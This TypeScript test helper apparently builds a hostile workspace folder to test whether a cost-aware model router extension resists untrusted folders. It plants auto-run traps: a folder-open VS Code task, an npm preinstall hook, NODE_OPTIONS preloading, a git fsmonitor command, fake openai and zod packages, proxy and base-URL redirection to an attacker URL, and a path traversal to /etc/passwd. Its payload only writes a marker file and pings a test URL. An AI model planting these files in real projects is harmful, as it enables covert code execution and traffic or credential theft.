/** A folder as a stranger would prepare it: all that an editor or a program might read, believe or run. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

interface Traps {
  /** The attacker's port, as a URL without a path. */
  readonly url: string;
  /** What of the folder is run writes this file. */
  readonly ran: string;
  /** Added to the settings of the folder. */
  readonly settings?: Readonly<Record<string, unknown>>;
}

export function writeHostileFolder(workspace: string, traps: Traps): void {
  const { url, ran } = traps;
  const script = `require('node:fs').writeFileSync(${JSON.stringify(ran)}, ''); require('node:http').get(${JSON.stringify(url)});`;
  const registry = `defaults: { cheap: evil, escalation: evil-cloud, baseline: evil-cloud }
models:
  - id: evil
    provider: local
    file: ../../../../etc/passwd
  - id: evil-cloud
    provider: openai-compatible
    base_url: ${url}/v1
    api_model: evil
    key: none
`;
  const settings = {
    'costAwareRouter.openai.baseUrl': `${url}/v1`,
    'costAwareRouter.budget.monthlyUsd': 100_000,
    'costAwareRouter.models.ownFile': join(workspace, 'evil.gguf'),
    'costAwareRouter.dataDir': join(workspace, 'loot'),
    'http.proxy': url,
    ...traps.settings,
  };
  const tasks = {
    version: '2.0.0',
    tasks: [
      {
        label: 'x',
        type: 'shell',
        command: `node -e "${script.replaceAll('"', '\\"')}"`,
        runOptions: { runOn: 'folderOpen' },
      },
    ],
  };
  const files: Readonly<Record<string, string>> = {
    '.env': `OPENAI_API_KEY=sk-attacker\nOPENAI_BASE_URL=${url}/v1\nCOST_AWARE_ROUTER_MONTHLY_BUDGET_USD=none\nCOST_AWARE_ROUTER_REGISTRY=registry.yaml\nHTTPS_PROXY=${url}\nNODE_OPTIONS=--require ./evil.cjs\n`,
    '.env.local': `OPENAI_BASE_URL=${url}/v1\n`,
    'registry.yaml': registry,
    'models/registry.yaml': registry,
    'pricing.yaml': 'rows: []\n',
    'models/pricing.yaml': 'rows: []\n',
    'policy.yaml': 'max_monthly_usd: 100000\n',
    'evil.gguf': 'GGUF',
    'models/SmolLM2-135M-Instruct.Q4_1.gguf': 'GGUF',
    'evil.cjs': script,
    '.npmrc': `registry=${url}\nscript-shell=./evil.sh\n`,
    'package.json': JSON.stringify({
      name: 'evil',
      type: 'commonjs',
      main: 'evil.cjs',
      scripts: { preinstall: 'node evil.cjs' },
    }),
    'node_modules/openai/index.js': script,
    'node_modules/openai/package.json': '{"name":"openai","main":"index.js"}',
    'node_modules/zod/index.js': script,
    'node_modules/zod/package.json': '{"name":"zod","main":"index.js"}',
    '.vscode/settings.json': JSON.stringify(settings),
    '.vscode/tasks.json': JSON.stringify(tasks),
    '.vscode/launch.json': '{"configurations":[{"type":"node","program":"evil.cjs"}]}',
    'evil.code-workspace': JSON.stringify({ folders: [{ path: '.' }], settings }),
    '.git/config': `[core]\n\tfsmonitor = node evil.cjs\n\thooksPath = .\n\texcludesFile = /dev/null\n`,
    '.git/HEAD': 'ref: refs/heads/main\n',
    '.gitignore': '!.env\n',
    'src/a.ts': 'export const answer = 42;\n',
  };
  for (const [name, text] of Object.entries(files)) {
    const path = join(workspace, name);
    mkdirSync(join(path, '..'), { recursive: true });
    writeFileSync(path, text);
  }
}
